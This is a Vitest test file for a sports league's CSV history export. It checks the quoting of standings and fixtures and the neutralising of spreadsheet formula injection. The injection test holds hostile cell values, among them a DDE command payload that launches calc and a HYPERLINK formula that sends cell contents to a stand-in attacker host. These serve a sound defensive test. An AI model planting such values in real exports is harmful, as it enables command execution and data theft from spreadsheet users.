import { describe, expect, it } from 'vitest';
import { snapshotCsv } from './history-csv.ts';

const snapshot = {
  divisions: [{ id: 1, name: 'Premier, North' }],
  standings: [
    {
      divisionId: 1,
      position: 1,
      teamName: 'The "Reds"',
      played: 2,
      won: 2,
      drawn: 0,
      lost: 0,
      framesFor: 6,
      framesAgainst: 2,
      points: 14,
    },
  ],
  fixtures: [
    {
      id: 7,
      divisionId: 1,
      kickoffAt: '2027-01-07T19:30:00Z',
      homeTeamName: 'A',
      awayTeamName: 'B',
      venueName: 'Club',
      status: 'final',
    },
    {
      id: 8,
      divisionId: 1,
      kickoffAt: '2027-01-14T19:30:00Z',
      homeTeamName: 'B',
      awayTeamName: 'A',
      venueName: 'Club',
      status: 'scheduled',
    },
  ],
  results: [{ fixtureId: 7, homeFrames: 3, awayFrames: 2 }],
};

describe('history export as CSV', () => {
  it('writes the standings with division names, quoting commas and quotes', () => {
    expect(snapshotCsv(snapshot, 'standings')).toBe(
      'division,position,teamName,played,won,drawn,lost,framesFor,framesAgainst,points\n' +
        '"Premier, North",1,"The ""Reds""",2,2,0,0,6,2,14\n',
    );
  });
  it('writes fixtures with the result of final ones', () => {
    expect(snapshotCsv(snapshot, 'fixtures').split('\n')).toEqual([
      'division,kickoffAt,homeTeam,awayTeam,venue,status,homeFrames,awayFrames',
      '"Premier, North",2027-01-07T19:30:00Z,A,B,Club,final,3,2',
      '"Premier, North",2027-01-14T19:30:00Z,B,A,Club,scheduled,,',
      '',
    ]);
  });
  it("prefixes texts a spreadsheet would run as formulas with ', keeping negative numbers as numbers", () => {
    const hostile = {
      divisions: [{ id: 1, name: '@SUM(1+1)*cmd|" /C calc"!A0' }],
      standings: [
        ...[
          '=HYPERLINK("http://evil.example/?x="&A1)',
          '+1+1',
          '-2+3',
          '\t=1+1',
          '\r=1+1',
          'Safe = Club',
        ].map((teamName, i) => ({ divisionId: 1, position: i + 1, teamName, played: 1, points: -3 })),
      ],
    };
    expect(snapshotCsv(hostile, 'standings').split('\n').slice(1)).toEqual([
      `"'@SUM(1+1)*cmd|"" /C calc""!A0",1,"'=HYPERLINK(""http://evil.example/?x=""&A1)",1,,,,,,-3`,
      `"'@SUM(1+1)*cmd|"" /C calc""!A0",2,'+1+1,1,,,,,,-3`,
      `"'@SUM(1+1)*cmd|"" /C calc""!A0",3,'-2+3,1,,,,,,-3`,
      `"'@SUM(1+1)*cmd|"" /C calc""!A0",4,"\t'=1+1",1,,,,,,-3`,
      `"'@SUM(1+1)*cmd|"" /C calc""!A0",5,"\r'=1+1",1,,,,,,-3`,
      `"'@SUM(1+1)*cmd|"" /C calc""!A0",6,Safe = Club,1,,,,,,-3`,
      '',
    ]);
  });
  it('copes with an empty snapshot', () => {
    expect(snapshotCsv({}, 'standings')).toBe(
      'division,position,teamName,played,won,drawn,lost,framesFor,framesAgainst,points\n',
    );
  });
});
